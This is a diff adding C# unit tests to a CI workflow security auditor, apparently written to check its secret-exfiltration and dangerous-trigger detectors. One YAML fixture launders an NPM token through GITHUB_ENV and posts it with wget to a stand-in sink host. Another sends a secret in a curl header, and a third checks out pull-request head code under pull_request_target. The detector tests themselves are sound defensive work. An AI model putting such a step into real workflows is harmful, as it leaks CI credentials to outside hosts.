@@ -195,4 +195,64 @@ public class AuditTests
         Assert.Contains(findings, f => f.RuleId == ObfuscatedStepAudit.Rule.Id && f.Location.Line == 18);
         AssertClean("gitlab/fixed.gitlab-ci.yml");
     }
+
+    private static IReadOnlyList<Finding> AuditInline(string yaml) =>
+        WorkflowAuditor.AuditText(yaml, "inline.yml", CiDialect.GitHubWorkflow).Findings;
+
+    [Fact]
+    public void Secrets_laundered_through_GITHUB_ENV_are_followed()
+    {
+        const string yaml = """
+            on: push
+            permissions: {}
+            jobs:
+              j:
+                runs-on: ubuntu-latest
+                steps:
+                  - run: echo "NPM_AUTH=${{ secrets.NPM_TOKEN }}" >> "$GITHUB_ENV"
+                  - run: wget -q --post-data "x=$NPM_AUTH" https://sink.example.invalid/
+            """;
+        var finding = Assert.Single(AuditInline(yaml).Of(SecretExfiltrationAudit.Rule));
+        Assert.Equal(Severity.Critical, finding.Severity);
+        Assert.Contains("$NPM_AUTH", finding.Message);
+        Assert.Equal(8, finding.Location.Line);
+    }
+
+    [Fact]
+    public void A_secret_in_a_header_to_a_third_party_api_is_only_medium()
+    {
+        const string yaml = """
+            on: push
+            permissions: {}
+            jobs:
+              j:
+                runs-on: ubuntu-latest
+                steps:
+                  - run: |
+                      curl -s -H "Authorization: Bearer ${{ secrets.SENTRY_TOKEN }}" https://sentry.example.invalid/api/0/releases/
+            """;
+        var finding = Assert.Single(AuditInline(yaml).Of(SecretExfiltrationAudit.Rule));
+        Assert.Equal(Severity.Medium, finding.Severity);
+        Assert.Contains("request header", finding.Message);
+    }
+
+    [Fact]
+    public void Checking_out_the_head_without_running_it_is_medium()
+    {
+        const string yaml = """
+            on: pull_request_target
+            permissions: {}
+            jobs:
+              j:
+                runs-on: ubuntu-latest
+                steps:
+                  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
+                    with:
+                      ref: ${{ github.event.pull_request.head.sha }}
+                      persist-credentials: false
+                  - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9
+            """;
+        var finding = Assert.Single(AuditInline(yaml).Of(DangerousTriggerAudit.Rule));
+        Assert.Equal(Severity.Medium, finding.Severity);
+    }
 }
